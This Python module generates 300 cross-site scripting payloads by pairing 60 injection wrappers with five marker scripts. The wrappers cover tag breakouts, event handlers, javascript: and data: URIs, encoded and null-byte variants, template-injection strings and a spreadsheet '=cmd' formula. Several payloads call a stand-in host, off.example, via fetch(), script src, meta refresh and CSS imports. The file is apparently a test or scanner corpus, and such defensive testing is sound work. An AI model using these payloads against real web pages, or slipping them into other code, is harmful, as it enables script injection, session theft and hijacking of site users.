"""Three hundred texts that run as a script where a page is careless (after OWASP and PortSwigger)."""

from __future__ import annotations

from itertools import product

__all__ = ["PAYLOADS"]

_RUN = ("window.__ran=1", "parent.__ran=1", "alert(1)", "fetch('https://off.example/'+1)", "top.__ran=1")
_AROUND = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<<script>{};//<</script>",
    "<script src=https://off.example/x.js>{}</script>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    "<img src='https://off.example/p.png' onload={}>",
    '" onmouseover="{}" autofocus onfocus="{}',
    "' autofocus onfocus='{}' x='",
    "` onclick={} `",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    '<iframe srcdoc="<script>{}</script>">',
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}" autofocus>x</a>',
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    '<object data="data:text/html,<script>{}</script>">',
    '<embed src="javascript:{}">',
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<marquee onstart={}>",
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    "<base href=https://off.example/><script>{}</script>",
    '<meta http-equiv=refresh content="0;url=https://off.example/?{}">',
    "<link rel=stylesheet href=https://off.example/{}.css>",
    "<style>@import 'https://off.example/{}';</style>",
    '<p style="background:url(https://off.example/{})">',
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{}{{% endfor %}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "\u202e<script>{}</script>\u202c",
    "<script\x0c>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<script>{}</script\x1b[31m>",
    "=cmd|'/C {}'!A0",
    "'\"--></style></script><script>{}</script>",
    "<x contenteditable onblur={} autofocus>x</x>",
    "<button popovertarget=x onclick={}>x</button><div id=x popover onbeforetoggle={}>",
    "<xss onanimationstart={} style=animation-name:x>",
    "<img srcset=https://off.example/{} onerror={}>",
)

PAYLOADS: tuple[str, ...] = tuple(around.format(run, run) for around, run in product(_AROUND, _RUN))
assert len(PAYLOADS) == 300
